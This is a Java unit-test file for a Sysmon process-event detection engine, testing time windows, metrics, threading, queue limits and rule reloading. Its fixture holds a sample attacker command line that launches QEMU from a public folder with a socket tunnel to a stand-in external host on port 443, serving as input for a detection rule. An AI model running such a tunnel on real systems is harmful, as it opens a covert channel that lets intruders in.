package io.procwatch.engine;

import io.procwatch.aggregate.Notable;
import io.procwatch.detect.RuleCompileException;
import io.procwatch.detect.RuleSet;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class EmbeddingEngineTest {

    static final String PSUQ = "5fc297ae-25b6-488a-8f25-cc12ac29b744";
    static final String WSQE = "c4c0a2d4-0675-4fde-97b7-115145ba257c";
    static RuleSet bundled;

    @BeforeAll
    static void rules() throws Exception {
        bundled = RuleSet.bundled();
    }

    /** A Sysmon EID 1 QEMU tunnel (matches "Potentially Suspicious Usage Of Qemu"). */
    static Map<String, String> qemu(String time, String host) {
        Map<String, String> m = new HashMap<>();
        m.put("EventID", "1");
        m.put("Channel", "Microsoft-Windows-Sysmon/Operational");
        m.put("Computer", host);
        m.put("SystemTime", time);
        m.put("Image", "C:\\Users\\Public\\qemu\\qemu-system-i386.exe");
        m.put("CommandLine", "qemu-system-i386.exe -m 1M -netdev user,id=lan,restrict=off -netdev socket,id=sock,connect=203.0.113.45:443 -nographic");
        m.put("User", "CORP\\jdoe");
        m.put("ParentImage", "C:\\Windows\\System32\\cmd.exe");
        m.put("ParentCommandLine", "cmd.exe");
        return m;
    }

    /** A clock a test moves by hand. */
    static final class HandClock extends Clock {
        volatile Instant now;

        HandClock(String iso) {
            now = Instant.parse(iso);
        }

        void set(String iso) {
            now = Instant.parse(iso);
        }

        @Override
        public ZoneId getZone() {
            return ZoneOffset.UTC;
        }

        @Override
        public Clock withZone(ZoneId zone) {
            return this;
        }

        @Override
        public Instant instant() {
            return now;
        }
    }

    @Test
    void wallClockClosesWindowsOnTimeWithoutTraffic() throws Exception {
        HandClock clock = new HandClock("2024-03-04T10:53:00Z");
        List<Notable> out = new CopyOnWriteArrayList<>();
        try (ProcwatchEngine engine = ProcwatchEngine.builder().rules(bundled)
                .clock(EngineClock.wall(clock)).tickInterval(Duration.ofHours(1)).onNotable(out::add).build()) {
            assertEquals(1, engine.submit(qemu("2024-03-04T10:52:10Z", "WKS-1")).accepted());
            engine.tick();
            assertEquals(0, out.size());
            clock.set("2024-03-04T11:30:00Z");
            engine.submit(qemu("2024-03-04T11:29:00Z", "WKS-1"));
            engine.tick();
            clock.set("2024-03-04T11:59:59Z");   // window [10:50, 11:50) + 10 min allowance closes at 12:00
            engine.tick();
            assertEquals(0, out.size());
            assertEquals(1, engine.metrics().openGroups());
            clock.set("2024-03-04T12:00:00Z");
            engine.tick();
            assertEquals(1, out.size());
            assertEquals(2L, out.get(0).fields().get("count"));
            assertEquals(false, out.get(0).fields().get("late"));
            // An event for the closed window is still detected, as a separate late notable.
            engine.submit(qemu("2024-03-04T11:40:00Z", "WKS-1"));
            clock.set("2024-03-04T12:00:01Z");
            engine.tick();
            assertEquals(2, out.size());
            assertEquals(true, out.get(1).fields().get("late"));
            EngineMetrics m = engine.metrics();
            assertEquals(3, m.processed());
            assertEquals(1, m.late());
            assertEquals(2, m.notables());
        }
    }

    @Test
    void countsOtherAndRejectedRecords() throws Exception {
        try (ProcwatchEngine engine = ProcwatchEngine.builder().rules(bundled).build()) {
            EventBatch b = engine.submitText("{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\"}\n"
                    + "{\"EventID\": 1, broken\n"
                    + "{\"EventID\":1,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"X\",\"SystemTime\":\"2024-03-04T10:00:00Z\",\"CommandLine\":\"whoami\"}\n");
            assertEquals(1, b.accepted());
            assertEquals(1, b.other());
            assertEquals(1, b.rejected());
            assertTrue(b.rejections().get(0).startsWith("text:2: "), b.rejections().toString());
            EventBatch garbage = engine.submitText("hello");
            assertEquals(1, garbage.rejected());
            engine.flush();
            EngineMetrics m = engine.metrics();
            assertEquals(4, m.received());
            assertEquals(2, m.rejected());
            assertEquals(1, m.other());
            assertEquals(1, m.processed());
        }
    }

    @Test
    void manyThreadsFeedOneEngine() throws Exception {
        List<Notable> out = new CopyOnWriteArrayList<>();
        int threads = 4;
        int each = 250;
        try (ProcwatchEngine engine = ProcwatchEngine.builder().rules(bundled).queueCapacity(64)
                .onNotable(out::add).build()) {
            ExecutorService pool = Executors.newFixedThreadPool(threads);
            List<Future<?>> fs = new java.util.ArrayList<>();
            for (int t = 0; t < threads; t++) {
                fs.add(pool.submit(() -> {
                    for (int i = 0; i < each; i++) {
                        engine.submit(qemu("2024-03-04T10:5" + (i % 10) + ":00Z", "WKS-1"));
                    }
                }));
            }
            for (Future<?> f : fs) {
                f.get(60, TimeUnit.SECONDS);
            }
            pool.shutdown();
            engine.flush();
            assertEquals(threads * each, engine.metrics().processed());
            assertEquals(0, engine.metrics().queueDepth());
        }
        assertEquals(1, out.size());
        assertEquals((long) threads * each, out.get(0).fields().get("count"));
    }

    @Test
    void fullQueueRefusesInsteadOfGrowing() throws Exception {
        CountDownLatch inListener = new CountDownLatch(1);
        CountDownLatch release = new CountDownLatch(1);
        try (ProcwatchEngine engine = ProcwatchEngine.builder().rules(bundled).queueCapacity(2)
                .submitTimeout(Duration.ofMillis(50))
                .onNotable(n -> {
                    inListener.countDown();
                    try {
                        release.await();
                    } catch (InterruptedException e) {
                        Thread.currentThread().interrupt();
                    }
                }).build()) {
            engine.submit(qemu("2024-03-04T10:52:00Z", "WKS-1"));
            Thread flusher = new Thread(engine::flush);
            flusher.start();
            assertTrue(inListener.await(30, TimeUnit.SECONDS));     // the session thread is now busy
            EventBatch two = engine.parse(qemu("2024-03-04T13:00:00Z", "WKS-2"), "t");
            assertTrue(engine.trySubmit(two));
            assertTrue(engine.trySubmit(two));
            assertFalse(engine.trySubmit(two));                      // capacity 2: the third waits for room
            assertThrows(EngineBusyException.class, () -> engine.submit(two));
            assertEquals(2, engine.metrics().queueDepth());
            assertEquals(2, engine.metrics().refused());
            release.countDown();
            flusher.join(30_000);
        }
    }

    @Test
    void enginesInOneJvmShareNothing() throws Exception {
        List<Notable> a = new CopyOnWriteArrayList<>();
        List<Notable> b = new CopyOnWriteArrayList<>();
        try (ProcwatchEngine one = ProcwatchEngine.builder().rules(bundled).onNotable(a::add).build();
             ProcwatchEngine two = ProcwatchEngine.builder().rules(bundled).onNotable(b::add).build()) {
            one.submit(qemu("2024-03-04T10:52:00Z", "WKS-1"));
            two.submit(qemu("2024-03-04T10:52:00Z", "WKS-2"));
            two.submit(qemu("2024-03-04T10:53:00Z", "WKS-2"));
            one.flush();
            two.flush();
            assertEquals(1, one.metrics().processed());
            assertEquals(2, two.metrics().processed());
        }
        assertEquals(1, a.size());
        assertEquals("WKS-1", a.get(0).fields().get("dest"));
        assertEquals(1L, a.get(0).fields().get("count"));
        assertEquals(1, b.size());
        assertEquals(2L, b.get(0).fields().get("count"));
    }

    @Test
    void closeDrainsAndFlushesAndRefusesLaterSubmits() throws Exception {
        List<Notable> out = new CopyOnWriteArrayList<>();
        ProcwatchEngine engine = ProcwatchEngine.builder().rules(bundled).onNotable(out::add).build();
        for (int i = 0; i < 100; i++) {
            engine.submit(qemu("2024-03-04T10:52:00Z", "WKS-" + (i % 5)));
        }
        engine.close();
        assertEquals(5, out.size());
        assertEquals(100, out.stream().mapToLong(n -> (Long) n.fields().get("count")).sum());
        assertThrows(IllegalStateException.class, () -> engine.submit(qemu("2024-03-04T10:52:00Z", "X")));
        engine.close();   // idempotent
    }

    @Test
    void reloadKeepsOpenWindowsOfUnchangedDetections(@TempDir Path dir) throws Exception {
        try (Stream<Path> s = Files.list(Path.of("rules-drl"))) {
            for (Path p : s.toList()) {
                Files.copy(p, dir.resolve(p.getFileName()));
            }
        }
        List<Notable> out = new CopyOnWriteArrayList<>();
        String xml = Files.readString(Path.of("examples/01-sysmon-qemu.xml"));
        List<String> lines = xml.lines().toList();
        try (ProcwatchEngine engine = ProcwatchEngine.builder().rulesDirectory(dir).onNotable(out::add).build()) {
            engine.submitText(lines.get(0));   // 10:52:10 QEMU tunnel on WKS-FIN-07 (PSUQ)
            engine.submitText(lines.get(3));   // 11:05:00 QEMU -nographic .img on WKS-FIN-07 (WSQE)
            engine.tick();
            assertEquals(2, engine.metrics().openGroups());

            // A broken rule file is refused with file:line, and the running rules stay.
            Path qemuRule = dir.resolve("windows_suspicious_qemu_execution.drl");
            String good = Files.readString(qemuRule);
            Files.writeString(qemuRule, good.replace("then\n", "then\n    insert( ;\n"));
            RuleCompileException e = assertThrows(RuleCompileException.class, () -> engine.reload(dir));
            assertTrue(e.problems().get(0).toString().startsWith(qemuRule + ":"), e.getMessage());
            assertTrue(e.problems().get(0).line() > 0);
            assertEquals(1, engine.metrics().reloadFailures());
            assertEquals(2, engine.metrics().openGroups());

            // A good change to one detection: its open window is closed early, the other one's is carried.
            Files.writeString(qemuRule, good.replace("@riskScore( 50 )", "@riskScore( 70 )"));
            ReloadReport r = engine.reload(dir);
            assertEquals(1, r.keptGroups());
            assertEquals(1, r.closedGroups());
            assertEquals(List.of(WSQE), r.changed());
            assertEquals(1, out.size());
            assertEquals(WSQE, out.get(0).ruleId());
            assertEquals(50, out.get(0).fields().get("risk_score"));

            engine.submitText(lines.get(2));   // 10:58:40 same tunnel again: joins the carried window
            engine.flush();
        }
        assertEquals(2, out.size());
        Notable carried = out.get(1);
        assertEquals(PSUQ, carried.ruleId());
        assertEquals(2L, carried.fields().get("count"));
        assertEquals("2024-03-04T10:52:10", carried.fields().get("firstTime"));
        assertEquals("2024-03-04T10:58:40", carried.fields().get("lastTime"));
    }
}
